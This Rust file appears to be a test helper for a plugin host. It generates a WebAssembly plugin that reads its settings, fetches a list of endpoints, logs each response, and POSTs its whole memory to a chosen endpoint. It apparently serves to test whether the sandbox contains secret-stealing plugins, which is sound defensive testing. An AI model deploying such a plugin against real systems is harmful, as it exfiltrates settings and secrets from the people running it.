//! A plugin that looks for secrets: it asks for answers and refusals of every kind, reads all that it may, and sends its whole
//! memory out.

use std::fmt::Write as _;

use crate::component::{Contract, connector_of, plugin};

/// Keeps what it is given: nothing is written over.
const KEEPS: &str = r#"(memory (export "memory") 4)
(global $top (mut i32) (i32.const 65536))
(func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32)
    (local $at i32)
    (local.set $at (i32.and (i32.add (global.get $top) (i32.const 7)) (i32.const -8)))
    (global.set $top (i32.add (local.get $at) (local.get 3)))
    (loop $l (if (i32.gt_u (global.get $top) (i32.shl (memory.size) (i32.const 16))) (then
        (if (i32.eq (memory.grow (i32.const 16)) (i32.const -1)) (then unreachable))
        (br $l))))
    (local.get $at))"#;
const IMPORTS: &str = r#"(import "nave:plugin/http@VERSION" "send" (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
(import "nave:plugin/log@VERSION" "write" (func $log (param i32 i32 i32)))
(import "nave:plugin/settings@VERSION" "get" (func $settings (param i32)))"#;
/// Answers are put down here, a page beyond what is said.
const ANSWER: usize = 32_768;

/// A plugin of this version, with this manifest, whose `check` asks for each of these: an endpoint of the manifest and a path. It logs the body
/// of every answer, then sends its memory in a `POST` to `path` of `endpoint`.
///
/// # Panics
/// Where a text is longer than there is room for.
pub fn snoop(contract: Contract, manifest: &str, asked: &[(&str, &str)], (endpoint, path): (&str, &str)) -> Vec<u8> {
    let (mut data, mut at) = (String::new(), 8_192);
    let mut text = |text: &str| {
        let place = at;
        at += text.len();
        assert!(at < ANSWER, "too many texts");
        let _ = writeln!(data, "(data (i32.const {place}) \"{}\")", text.escape_default());
        format!("(i32.const {place}) (i32.const {})", text.len())
    };
    let mut body = format!("(call $settings (i32.const {ANSWER}))\n");
    let get = text("GET");
    for (number, (endpoint, path)) in asked.iter().enumerate() {
        let to = ANSWER + 64 * (number + 1);
        let (endpoint, path) = (text(endpoint), text(path));
        let _ = writeln!(
            body,
            "(call $send {endpoint} {get} {path} (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const {to}))
            (if (i32.eqz (i32.load8_u (i32.const {to}))) (then
                (call $log (i32.const 1) (i32.load (i32.const {})) (i32.load (i32.const {})))))",
            to + 20,
            to + 24,
        );
    }
    let (endpoint, post, path) = (text(endpoint), text("POST"), text(path));
    let _ = writeln!(
        body,
        "(call $send {endpoint} {post} {path} (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 0)
            (i32.shl (memory.size) (i32.const 16)) (i32.const {}))
        (i32.const 4096)",
        ANSWER - 64,
    );
    plugin(&connector_of(contract, &format!("{IMPORTS}\n{KEEPS}\n{data}"), &[("check", &body)]), manifest)
}
